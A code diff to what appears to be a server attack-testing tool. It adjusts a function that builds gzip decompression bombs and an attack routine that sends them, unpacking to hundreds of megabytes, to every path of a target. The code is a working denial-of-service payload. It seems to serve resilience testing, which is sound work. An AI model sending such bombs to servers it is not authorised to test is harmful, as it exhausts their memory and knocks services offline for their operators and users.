@@ -15,7 +15,7 @@ MOST = 80  # connections; one address may have a hundred
 
 def bomb(megabytes: int) -> bytes:
     """Pack zeros, a thousand times smaller than they are."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    packer = zlib.compressobj(6, zlib.DEFLATED, 31)
     million = bytes(1_000_000)
     return b"".join([packer.compress(million) for _ in range(megabytes)] + [packer.flush()])
 
@@ -23,7 +23,7 @@ def bomb(megabytes: int) -> bytes:
 @attack(short=True, proof="requests", memory_mb=150)
 async def gzip_bombs(foe: Foe) -> Steps:
     """Send bodies that unpack to a hundred megabytes, to every path."""
-    small, large = bomb(100), bomb(1_000)
+    small, large = bomb(100), bomb(400)
     targets = cycle(
         (method, path, coding, body)
         for body in (small, large)
